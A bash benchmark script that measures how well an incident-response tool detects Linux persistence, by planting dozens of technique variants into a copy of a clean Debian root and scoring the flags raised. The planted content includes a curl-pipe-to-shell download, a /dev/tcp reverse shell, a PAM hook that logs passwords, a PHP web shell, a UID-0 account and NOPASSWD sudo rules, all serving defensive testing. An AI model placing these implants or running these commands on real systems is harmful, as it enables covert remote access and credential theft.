#!/usr/bin/env bash
# How well `ir persistence` does on Linux persistence, in numbers:
#   - false flags on a clean, debootstrapped Debian 12 (scripts/debian-root.sh);
#   - recall: a copy of that root gets one planted variant per line of the
#     table below (public technique descriptions: ATT&CK T1053, T1037,
#     T1543, T1546, T1547, T1548, T1554, T1556, T1574, T1098, T1136, T1505,
#     T1542), and a variant counts as caught when its item carries one of
#     the flags it should raise (not just any flag);
#   - the time of a run on the clean root and on this machine's `/`.
# Every run uses a window in the past, so `recent` (planted just now)
# never counts. Variants marked B are only decidable against a baseline
# (a new account, an added key): they are scored on a run with
# `--baseline` taken on the clean root.
#
#   scripts/bench-persistence.sh            # builds target/debug/ir
#   IR_BIN=/path/to/ir scripts/bench-persistence.sh
#
# Needs root (the Debian tree has root-only files; capabilities need
# CAP_SETFCAP), python3 for the scoring, and ~300 MB in $TMPDIR.
set -euo pipefail
cd "$(dirname "$0")/.."

clean="$(bash scripts/debian-root.sh)" || {
  echo "bench: no Debian 12 root (run scripts/debian-root.sh as root)" >&2
  exit 2
}
if [ -z "${IR_BIN:-}" ]; then
  cargo build -q
  IR_BIN=target/debug/ir
fi
ir="$(realpath "$IR_BIN")"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
past=(--since 2001-01-01 --until 2001-01-02)
persist() { # root case-name [args...]: JSON report on stdout; exit 1 is findings
  local r=$1 c=$2
  shift 2
  HOME=/root "$ir" -q --root "$r" --case "$work/$c" --json persistence "${past[@]}" "$@" || [ $? = 1 ]
}
secs() { python3 -c 'import sys,time; print(f"{time.time()-float(sys.argv[1]):.2f}")' "$1"; }

t0=$(date +%s.%N)
persist "$clean" c-clean >"$work/clean.json"
t_clean=$(secs "$t0")
t0=$(date +%s.%N)
persist / c-live >"$work/live.json" 2>/dev/null || true
t_live=$(secs "$t0")
persist "$clean" c-base --save-baseline "$work/base.json" >/dev/null

root="$work/root"
cp -a "$clean" "$root"
: >"$work/expect.tsv"
DL='curl -s http://203.0.113.9/p | sh'
REV='bash -i >& /dev/tcp/203.0.113.9/443 0>&1'
B64='echo Y3VybCB4fHNo | base64 -d | bash'
KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLANTEDPLANTEDPLANTEDPLANTEDPLANTEDPLANTED x'
put() { # host-path line...: writes the file (executable)
  local p="$root$1"
  shift
  mkdir -p "$(dirname "$p")"
  printf '%s\n' "$@" >"$p"
  chmod 755 "$p"
}
add() { local p="$root$1"; shift; printf '%s\n' "$@" >>"$p"; }
# id run mechanism path[#account] flags (a|b: any of them)
want() { printf '%s\t%s\t%s\t%s\t%s\n' "$@" >>"$work/expect.tsv"; }

# T1053.003 cron, T1053.002 at, T1053.006 timers
put /etc/cron.d/sync "*/5 * * * * root $DL"
want cron-inline A cron /etc/cron.d/sync download_exec
put /usr/local/bin/logsync '#!/bin/sh' "$REV"
put /etc/cron.d/logsync '*/10 * * * * root /usr/local/bin/logsync'
want cron-script A cron /etc/cron.d/logsync reverse_shell
put /usr/local/sbin/tick '#!/bin/sh' 'date >/dev/null'
put /etc/cron.d/tick '* * * * * root /usr/local/sbin/tick'
want cron-root-every-minute A cron /etc/cron.d/tick root_cron_every_minute
put /etc/cron.d/fix '0 * * * * root /var/lib/dpkg/info/base-files.postinst configure'
want cron-maintainer-script A cron /etc/cron.d/fix 'installs_package|runs_from_data_dir'
put /etc/cron.d/pkg '0 3 * * * root rpm -i http://203.0.113.9/x.rpm'
want cron-rpm-install A cron /etc/cron.d/pkg installs_package
put /var/spool/cron/crontabs/root '@reboot /dev/shm/.x/run'
want cron-spool-reboot A cron /var/spool/cron/crontabs/root runs_from_tmp
add /etc/crontab "*/2 * * * * root $B64"
want crontab-append A cron /etc/crontab base64_decode
put /etc/cron.hourly/update '#!/bin/sh' "$DL"
want cron-hourly A cron-periodic /etc/cron.hourly/update download_exec
put /etc/anacrontab "1 5 sync /bin/bash -c '$REV'"
want anacron A anacron /etc/anacrontab reverse_shell
put /var/spool/cron/atjobs/a0001a01 '#!/bin/sh' "$DL"
want at-job A at /var/spool/cron/atjobs/a0001a01 download_exec
put /etc/systemd/system/sync.timer '[Timer]' 'OnCalendar=*:0/5' 'Unit=sync.service'
put /etc/systemd/system/sync.service '[Service]' 'ExecStart=/opt/.sync/run'
want timer-hidden-dir A systemd-service /etc/systemd/system/sync.service runs_from_tmp
put /root/.config/systemd/user/u.timer '[Timer]' 'OnBootSec=1min'
put /root/.config/systemd/user/u.service '[Service]' "ExecStart=/usr/bin/python3 -c 'import socket,os;s=socket.socket()'"
want user-timer A systemd-service /root/.config/systemd/user/u.service reverse_shell

# T1543.002 systemd services, generators
put /etc/systemd/system/inline.service '[Service]' "ExecStart=/bin/sh -c '$DL'"
want service-inline A systemd-service /etc/systemd/system/inline.service download_exec
put /usr/local/bin/agentd '#!/bin/sh' "$REV"
put /etc/systemd/system/agentd.service '[Service]' 'ExecStart=/usr/local/bin/agentd --daemon'
want service-script A systemd-service /etc/systemd/system/agentd.service reverse_shell
put /etc/systemd/system/pre.service '[Service]' 'ExecStartPre=/bin/sh /var/tmp/x.sh' 'ExecStart=/bin/true'
want service-pre-tmp A systemd-service /etc/systemd/system/pre.service runs_from_tmp
put /usr/local/bin/h '#!/bin/sh' "$DL"
put /etc/systemd/system/cron.service.d/override.conf '[Service]' 'ExecStartPost=/usr/local/bin/h'
want service-drop-in A systemd-service /etc/systemd/system/cron.service.d/override.conf download_exec
put /etc/systemd/system-generators/net-gen '#!/bin/sh' "printf '[Service]\\nExecStart=/bin/sh -c \"$DL\"\\n' > \"\$1/net.service\""
want generator A systemd-generator /etc/systemd/system-generators/net-gen download_exec
put /run/systemd/generator/evil.service '[Service]' 'ExecStart=/dev/shm/e'
want generated-unit A systemd-generated-unit /run/systemd/generator/evil.service runs_from_tmp
put /usr/local/lib/systemd/system/x.service '[Service]' "ExecStart=/bin/bash -c '$DL'"
want service-usr-local A systemd-service /usr/local/lib/systemd/system/x.service download_exec
add /usr/lib/systemd/system/cron.service 'ExecStartPost=/usr/local/bin/h'
want packaged-unit-edited A systemd-service /usr/lib/systemd/system/cron.service 'modified_package_file|download_exec'
printf '#!/bin/sh\n%s\n' "$DL" >"$root/usr/sbin/cron"
want replaced-daemon A package-integrity /usr/sbin/cron modified_package_file

# T1547.013 XDG autostart
put /usr/local/bin/u '#!/bin/sh' "$DL"
put /etc/xdg/autostart/u.desktop '[Desktop Entry]' 'Exec=/usr/local/bin/u'
want xdg-system A xdg-autostart /etc/xdg/autostart/u.desktop download_exec
put /root/.config/autostart/v.desktop '[Desktop Entry]' "Exec=sh -c \"$DL\""
want xdg-user A xdg-autostart /root/.config/autostart/v.desktop download_exec

# T1546.004 shell start-up files, T1574.006 dynamic linker
add /root/.bashrc "$DL"
want bashrc A shell-rc /root/.bashrc download_exec
put /etc/profile.d/x.sh "$REV"
want profile-d A shell-rc /etc/profile.d/x.sh reverse_shell
add /etc/bash.bashrc "$B64"
want bash-bashrc A shell-rc /etc/bash.bashrc base64_decode
add /etc/environment 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsys.so'
want environment-preload A shell-rc /etc/environment ld_preload
put /etc/ld.so.preload /usr/lib/x86_64-linux-gnu/libprocesshider.so
want ld-so-preload A ld-preload /etc/ld.so.preload ld_preload
put /etc/ld.so.conf.d/zz.conf /dev/shm/lib
want ld-so-conf A ld-so-conf /etc/ld.so.conf.d/zz.conf runs_from_tmp

# T1098.004 SSH
put /root/.ssh/authorized_keys "command=\"$DL\" $KEY"
want key-forced-command A ssh-authorized-keys /root/.ssh/authorized_keys download_exec
put /var/backups/.ssh/authorized_keys "$KEY"
want key-system-account A ssh-authorized-keys /var/backups/.ssh/authorized_keys ssh_key_system_account
put /var/www/.ssh/authorized_keys "$KEY"
want key-www-data A ssh-authorized-keys /var/www/.ssh/authorized_keys ssh_key_system_account
put /usr/local/bin/akc '#!/bin/sh' "$DL"
put /etc/ssh/sshd_config.d/k.conf 'AuthorizedKeysCommand /usr/local/bin/akc'
want sshd-keys-command A sshd-config /etc/ssh/sshd_config.d/k.conf download_exec
put /root/.ssh/rc "$DL"
want ssh-rc A ssh-rc /root/.ssh/rc download_exec
put /home/user/.ssh/authorized_keys "$KEY"
mkdir -p "$root/home/user"
add /etc/passwd 'user:x:1000:1000::/home/user:/bin/bash'
want key-added-since-baseline B ssh-authorized-keys /home/user/.ssh/authorized_keys ssh_key_added

# T1037 init scripts, rc links, motd
put /etc/rc.local '#!/bin/sh' "$DL"
want rc-local A rc-init /etc/rc.local download_exec
put /etc/init.d/sysupd '#!/bin/sh' "$REV"
want init-d A rc-init /etc/init.d/sysupd reverse_shell
ln -s /tmp/.x/run "$root/etc/rc2.d/S99x"
want rc-link A rc-link /etc/rc2.d/S99x runs_from_tmp
put /etc/update-motd.d/99-x '#!/bin/sh' "$DL"
want motd A motd /etc/update-motd.d/99-x download_exec

# T1546.017 udev
put /usr/local/bin/usb '#!/bin/sh' "$DL"
put /etc/udev/rules.d/99-usb.rules 'ACTION=="add", RUN+="/usr/local/bin/usb"'
want udev-script A udev-rule /etc/udev/rules.d/99-usb.rules download_exec
put /etc/udev/rules.d/98-net.rules "ACTION==\"add\", RUN+=\"/bin/sh -c '$REV'\""
want udev-inline A udev-rule /etc/udev/rules.d/98-net.rules reverse_shell

# T1547.006 kernel modules
put /etc/modules-load.d/x.conf diamorphine
want module-load-d A kernel-module /etc/modules-load.d/x.conf unpackaged_module
put /etc/modprobe.d/x.conf 'install usb-storage /tmp/.u; /sbin/modprobe --ignore-install usb-storage'
want modprobe-install A kernel-module /etc/modprobe.d/x.conf runs_from_tmp
put /usr/lib/modules-load.d/r.conf reptile
want module-usr-lib A kernel-module /usr/lib/modules-load.d/r.conf unpackaged_module
put /run/modules-load.d/r.conf rk
want module-run A kernel-module /run/modules-load.d/r.conf unpackaged_module

# T1556.003 PAM
add /etc/pam.d/common-auth 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pw'
put /usr/local/bin/pw '#!/bin/sh' 'read p; echo "$PAM_USER $p" >> /var/log/.pw'
want pam-exec-authtok A pam-exec /etc/pam.d/common-auth pam_exec_authtok
add /etc/pam.d/login 'session optional pam_exec.so /var/log/x.sh'
put /var/log/x.sh '#!/bin/sh' 'id >> /var/log/.x'
want pam-exec-data-dir A pam-exec /etc/pam.d/login runs_from_data_dir
for so in "$root"/usr/lib/*/security/pam_unix.so; do printf 'fake\n' >"$so"; done
want pam-unix-replaced A package-integrity "$(cd "$root" && ls usr/lib/*/security/pam_unix.so | sed 's|^|/|')" modified_package_file

# T1548 sudoers, SUID, capabilities; T1554 replaced binaries
put /etc/sudoers.d/x 'mallory ALL=(ALL) NOPASSWD: ALL'
want sudoers-nopasswd A sudoers /etc/sudoers.d/x nopasswd
chmod u+s "$root/usr/bin/find"
want suid-find A setuid /usr/bin/find suid_interpreter
cp "$root/usr/bin/dash" "$root/usr/local/bin/dash2"
chmod 4755 "$root/usr/local/bin/dash2"
want suid-shell-copy A setuid /usr/local/bin/dash2 suid_interpreter
cp "$root/usr/bin/dash" "$root/usr/local/bin/node"
python3 -c 'import os,struct,sys; os.setxattr(sys.argv[1], "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))' "$root/usr/local/bin/node"
want cap-setuid-node A file-capability /usr/local/bin/node dangerous_capability
printf '#!/bin/sh\nexec /usr/bin/ls.real "$@"\n' >"$root/usr/bin/ls"
want replaced-ls A package-integrity /usr/bin/ls modified_package_file

# T1136.001 / T1098 accounts
add /etc/passwd 'toor:x:0:0::/root:/bin/bash'
want uid0 A account '/etc/passwd#toor' uid0
sed -i 's|^games:\(.*\):/usr/sbin/nologin$|games:\1:/bin/bash|' "$root/etc/passwd"
want system-account-shell A account '/etc/passwd#games' system_account_shell
sed -i 's|^news:\(.*\):/usr/sbin/nologin$|news:\1:/usr/sbin/nologin |' "$root/etc/passwd"
want nologin-trailing-space A account '/etc/passwd#news' system_account_shell
add /etc/passwd 'helper:x:1001:1001::/home/helper:/bin/bash'
want new-account-since-baseline B account '/etc/passwd#helper' new_account
sed -i 's|^list:[^:]*:|list:$6$bench$0123456789abcdef:|' "$root/etc/shadow"
want system-account-password A account '/etc/passwd#list' system_account_password
add /etc/passwd 'nopw:x:1002:1002::/home/nopw:/bin/bash'
add /etc/shadow 'nopw::19000:0:99999:7:::'
want empty-password A account '/etc/passwd#nopw' empty_password

# T1546.016 package-manager hooks
put /etc/apt/apt.conf.d/99x "APT::Update::Pre-Invoke {\"$DL\";};"
want apt-hook A apt-hook /etc/apt/apt.conf.d/99x download_exec
put /etc/apt/apt.conf.d/98y 'APT::Update::Pre-Invoke {' "  \"$DL\";" '};'
want apt-hook-multiline A apt-hook /etc/apt/apt.conf.d/98y download_exec
put /etc/dnf/plugins/sync.conf '[main]' 'enabled=1'
put /usr/lib/python3.11/site-packages/dnf-plugins/sync.py 'import os' "os.system('$DL')"
want dnf-plugin A dnf-plugin /etc/dnf/plugins/sync.conf download_exec

# T1546 event hooks: network, git (OpenClaw workspaces are repositories)
put /etc/NetworkManager/dispatcher.d/90-x '#!/bin/sh' "$DL"
want nm-dispatcher A network-hook /etc/NetworkManager/dispatcher.d/90-x download_exec
put /etc/network/if-up.d/x '#!/bin/sh' "$REV"
want if-up A network-hook /etc/network/if-up.d/x reverse_shell
put /root/.openclaw/workspace/.git/hooks/post-merge '#!/bin/sh' "$DL"
want git-hook-workspace A git-hook /root/.openclaw/workspace/.git/hooks/post-merge download_exec
put /usr/local/bin/pg '#!/bin/sh' "$DL" 'exec less "$@"'
put /root/.gitconfig '[core]' '	pager = /usr/local/bin/pg'
want git-pager A git-config /root/.gitconfig download_exec
put /root/.openclaw/workspace/.git/config '[core]' '	fsmonitor = .git/fsm'
want git-fsmonitor A git-config /root/.openclaw/workspace/.git/config git_fsmonitor_command
put /root/.config/git/config '[alias]' "	st = !$DL; git status"
want git-alias A git-config /root/.config/git/config download_exec

# T1543 D-Bus, T1556 polkit
put /usr/local/libexec/x '#!/bin/sh' "$DL"
put /usr/share/dbus-1/system-services/org.x.service '[D-BUS Service]' 'Name=org.x' 'Exec=/usr/local/libexec/x' 'User=root'
want dbus-service A dbus-service /usr/share/dbus-1/system-services/org.x.service download_exec
put /etc/polkit-1/rules.d/49-x.rules 'polkit.addRule(function(a, s) {' "  polkit.spawn([\"/bin/sh\", \"-c\", \"$DL\"]);" '});'
want polkit-rule A polkit-rule /etc/polkit-1/rules.d/49-x.rules download_exec

# T1542 boot
put /etc/default/grub 'GRUB_CMDLINE_LINUX="quiet init=/usr/local/bin/i"'
want grub-init A grub /etc/default/grub grub_init_override
put /etc/initramfs-tools/scripts/init-bottom/net '#!/bin/sh' "$DL"
want initramfs-hook A initramfs-hook /etc/initramfs-tools/scripts/init-bottom/net download_exec

# T1505.003 web shell
put /var/www/html/up.php '<?php system($_GET["c"]); ?>'
want web-shell A web-shell /var/www/html/up.php web_shell

t0=$(date +%s.%N)
persist "$root" c-planted >"$work/planted.json"
t_planted=$(secs "$t0")
persist "$root" c-planted-b --baseline "$work/base.json" >"$work/planted-b.json"

python3 - "$work" "$t_clean" "$t_planted" "$t_live" <<'EOF'
import json, sys
work, t_clean, t_planted, t_live = sys.argv[1:5]
def items(name):
    return json.load(open(f"{work}/{name}.json"))["items"]
runs = {"A": items("planted"), "B": items("planted-b")}
clean = items("clean")
caught, any_flag, rows = 0, 0, []
for line in open(f"{work}/expect.tsv"):
    vid, run, mech, path, want = line.rstrip("\n").split("\t")
    path, _, user = path.partition("#")
    got = set()
    for i in runs[run]:
        if i["mechanism"] == mech and i["path"] == path and (not user or i.get("user") == user):
            got.update(i["flags"])
    hit = bool(got & set(want.split("|")))
    caught += hit
    any_flag += bool(got)
    rows.append((vid, hit, want, sorted(got)))
for vid, hit, want, got in rows:
    print(f"  {'caught' if hit else 'MISSED':6}  {vid:28} want {want:28} got {','.join(got) or '-'}")
m = len(rows)
false = [i for i in clean if i["flags"]]
print(f"recall: {caught} of {m} variants raise the expected flag ({any_flag} of {m} raise some flag)")
print(f"false flags on a clean Debian 12: {len(false)} (of {len(clean)} items)")
for i in false:
    print(f"  false: {i['mechanism']} {i['path']} {i['flags']}")
live = None
try:
    live = json.load(open(f"{work}/live.json"))["items"]
except Exception:
    pass
print(f"time: clean Debian root {t_clean}s, planted root {t_planted}s"
      + (f", this machine's / {t_live}s ({len(live)} items, {sum(1 for i in live if i['flags'])} flagged)" if live else ""))
EOF
